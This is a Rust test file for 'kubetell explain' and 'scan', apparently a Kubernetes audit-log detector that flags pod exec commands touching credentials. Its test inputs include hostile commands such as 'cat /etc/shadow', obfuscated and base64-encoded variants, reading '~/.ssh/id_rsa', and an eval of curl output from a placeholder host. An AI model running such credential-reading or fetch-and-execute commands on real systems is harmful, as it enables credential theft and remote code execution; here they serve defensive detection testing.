//! `kubetell explain` as a person and as a script uses it, and the same verdicts in `scan`.

#![allow(clippy::unwrap_used)]

use std::io::Write;
use std::process::{Command, Output, Stdio};

use serde_json::{Value, json};

use crate::support::{assert_valid_ecs, exec_event, json_lines, program};

fn run(mut command: Command, input: &[u8]) -> Output {
    command.stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::piped());
    let mut child = command.spawn().unwrap();
    child.stdin.take().unwrap().write_all(input).unwrap();
    child.wait_with_output().unwrap()
}

/// Runs it, wants this exit code, returns stdout and stderr.
fn check(arguments: &[&str], input: &[u8], code: i32) -> (String, String) {
    let output = run(program(arguments), input);
    let (stdout, stderr) = (output.stdout, output.stderr);
    let (stdout, stderr) = (String::from_utf8(stdout).unwrap(), String::from_utf8(stderr).unwrap());
    assert_eq!(output.status.code(), Some(code), "{arguments:?}\n{stdout}\n{stderr}");
    (stdout, stderr)
}

fn explained(arguments: &[&str]) -> Value {
    let arguments = [&["explain", "--format", "json"], arguments].concat();
    serde_json::from_str(&check(&arguments, b"", 0).0).unwrap()
}

#[test]
fn a_person_sees_the_steps_and_the_verdict() {
    let text = |command: &str| check(&["explain", "--command", command], b"", 0).0;
    insta::assert_snapshot!("explain_as_written", text("cat /etc/shadow"));
    insta::assert_snapshot!("explain_likely", text("cd /etc; cat sh''ad?w"));
    insta::assert_snapshot!(
        "explain_decoded",
        text("echo Y2F0IC9ldGMvc2hhZG93Cg== | base64 -d | sh")
    );
    insta::assert_snapshot!("explain_suspicious", text("eval \"$(curl -s http://x | base64 -d)\""));
    insta::assert_snapshot!("explain_none", text("nginx -t"));
}

#[test]
fn a_program_gets_one_object_a_command() {
    let found = explained(&["--command", "cat /etc/sh''adow"]);
    assert_eq!(found["alert"], json!(true));
    let verdict = &found["verdicts"][0];
    assert_eq!(verdict["rule"], "pod-exec-sensitive-path");
    assert_eq!(verdict["confidence"], "certain");
    assert_eq!(verdict["severity"], "high");
    assert_eq!(verdict["access_type"], "HOST_CREDENTIALS");
    assert_eq!(verdict["matches"][0]["view"], "normal-form");
    assert_eq!(verdict["matches"][0]["reads"], "/etc/shadow");
    assert_eq!(verdict["matches"][0]["steps"], json!(["quotes removed"]));
    assert_eq!(verdict["matches"][0]["span"], json!({"start": 4, "end": 17}));

    let found = explained(&["--command", "ls /app"]);
    assert_eq!((&found["alert"], &found["verdicts"]), (&json!(false), &json!([])));
    assert!(found["reason"].as_str().unwrap().contains("no sensitive path"));
}

#[test]
fn a_uri_is_read_as_the_servers_read_it() {
    for uri in [
        "/api/v1/namespaces/shop/pods/cart-0/exec?stdout=1&command=cat&command=%2Fetc%2Fshadow",
        "https://10.0.0.1:6443/api/v1/namespaces/shop/pods/cart-0/exec?command=cat&container=c&command=/etc/sh%27%27adow",
        "/api/v1/nodes/n1:10250/proxy/run/shop/cart-0/c?cmd=cat%20/etc/shadow",
    ] {
        let found = explained(&["--uri", uri]);
        assert_eq!(found["alert"], json!(!uri.contains("%27")), "{uri}");
        assert_eq!((&found["namespace"], &found["pod"]), (&json!("shop"), &json!("cart-0")));
    }
    let (stdout, _) = check(&["explain", "--uri", "/api/v1/pods"], b"", 0);
    assert!(stdout.starts_with("no alert: the URI is no exec"), "{stdout}");
}

#[test]
fn standard_input_gives_a_line_for_a_line() {
    let (stdout, _) =
        check(&["explain", "--command", "-"], b"cat /etc/sha*\nls /app\n\ncat ~/.ssh/id_rsa\n", 0);
    let alerts: Vec<(Value, Value)> = json_lines(stdout.as_bytes())
        .into_iter()
        .map(|found| (found["alert"].clone(), found["verdicts"][0]["confidence"].clone()))
        .collect();
    assert_eq!(
        alerts,
        [
            (json!(true), json!("likely")),
            (json!(false), Value::Null),
            (json!(true), json!("certain")),
        ]
    );

    let mut events = exec_event("0d9f6c1e-70a8-4b57-8a44-5f0f3c8f1a77");
    events.extend_from_slice(b"\n{\"kind\":\"Event\",\n");
    let (stdout, _) = check(&["explain", "--event", "-"], &events, 2);
    let lines = json_lines(stdout.as_bytes());
    assert_eq!(lines[0]["alert"], json!(true));
    assert!(lines[1]["error"].is_string(), "{stdout}");
}

#[test]
fn wrong_usage_is_told() {
    check(&["explain"], b"", 64);
    check(&["explain", "--uri", "/x", "--command", "x"], b"", 64);
    let (_, stderr) = check(&["explain", "--command", "x", "--enable", "pod-exec"], b"", 64);
    assert!(stderr.contains("there is no rule `pod-exec`"), "{stderr}");
    assert!(stderr.contains("hint: did you mean `pod-exec-"), "{stderr}");
    let (_, stderr) = check(&["explain", "--command", "x", "--enable", "zzz"], b"", 64);
    assert!(stderr.contains("hint: `kubetell rules list` lists the rules"), "{stderr}");
    let (_, stderr) = check(&["explain", "--event", "/nowhere/x"], b"", 2);
    assert!(stderr.contains("/nowhere/x"), "{stderr}");
}

fn exec_of(audit_id: &str, query: &str) -> Vec<u8> {
    let mut event: Value = serde_json::from_slice(&exec_event(audit_id)).unwrap();
    event["requestURI"] = json!(format!("/api/v1/namespaces/n/pods/p/exec?{query}"));
    serde_json::to_vec(&event).unwrap()
}

fn scanned(arguments: &[&str], events: &[Vec<u8>]) -> Vec<Value> {
    let arguments = [&["scan", "--format", "ecs", "--quiet"], arguments, &["-"]].concat();
    let output = run(program(&arguments), &events.join(&b'\n'));
    let alerts = json_lines(&output.stdout);
    alerts.iter().for_each(assert_valid_ecs);
    alerts
}

#[test]
fn an_alert_tells_the_view_the_grade_and_the_steps() {
    let alerts = scanned(
        &[],
        &[
            exec_of("1", "command=sh&command=-c&command=cat+/etc/sh%27%27adow"),
            exec_of("2", "command=sh&command=-c&command=cat+/etc/sha*"),
            exec_of("3", "command=sh&command=-c&command=eval+%22$(curl+x+|+base64+-d)%22"),
            exec_of("4", "command=ls&command=/app"),
            exec_of("5", "command=cat&command=/etc/shadow"),
        ],
    );
    let told: Vec<Value> = alerts
        .iter()
        .map(|alert| {
            let ours = &alert["kubetell"];
            json!([
                alert["kubernetes"]["audit"]["auditID"],
                ours["view"],
                ours["confidence"],
                alert["event"]["severity"],
                ours["access_type"]
            ])
        })
        .collect();
    assert_eq!(
        told,
        [
            json!(["1", "normal-form", "certain", 73, "HOST_CREDENTIALS"]),
            json!(["2", "normal-form", "likely", 47, "HOST_CREDENTIALS"]),
            json!(["3", "normal-form", "suspicious", 21, "HIDDEN_COMMAND"]),
            json!(["5", "as-written", "certain", 73, "HOST_CREDENTIALS"]),
        ]
    );
    assert_eq!(alerts[0]["kubetell"]["matches"][0]["steps"], json!(["quotes removed"]));
}

#[test]
fn what_an_interactive_shell_is_asked_to_do_is_raised_where_that_is_wanted() {
    let events = [exec_of("1", "command=bash&stdin=true&tty=true")];
    assert!(scanned(&[], &events).is_empty());
    let alerts = scanned(&["--enable", "pod-exec-interactive-shell"], &events);
    assert_eq!(alerts[0]["rule"]["id"], "pod-exec-interactive-shell");
    assert_eq!(alerts[0]["kubetell"]["access_type"], "INTERACTIVE_SHELL");
    assert_eq!(alerts[0]["process"]["interactive"], json!(true));
}

#[test]
fn secrets_of_a_command_line_do_not_leave() {
    let events = [exec_of(
        "1",
        "command=sh&command=-c&command=mysql+-phunter2+%3C+/etc/shadow%3B+echo+password%3Dhunter2",
    )];
    let alerts = scanned(&[], &events);
    let text = alerts[0].to_string();
    assert!(!text.contains("hunter2") && text.contains("[redacted]"), "{text}");
    let command = alerts[0]["process"]["command_line"].as_str().unwrap();
    assert_eq!(command, "sh -c mysql -p[redacted] < /etc/shadow; echo password=[redacted]");
    let span = &alerts[0]["kubetell"]["matches"][0]["span"];
    let (start, end) = (span["start"].as_u64().unwrap(), span["end"].as_u64().unwrap());
    let marked = &command[usize::try_from(start).unwrap()..usize::try_from(end).unwrap()];
    assert_eq!(marked, "/etc/shadow");
    let whole = scanned(&["--no-redact"], &events);
    assert!(whole[0].to_string().contains("hunter2"));
    // What is hidden does not change which alert it is.
    assert_eq!(whole[0]["event"]["id"], alerts[0]["event"]["id"]);
}
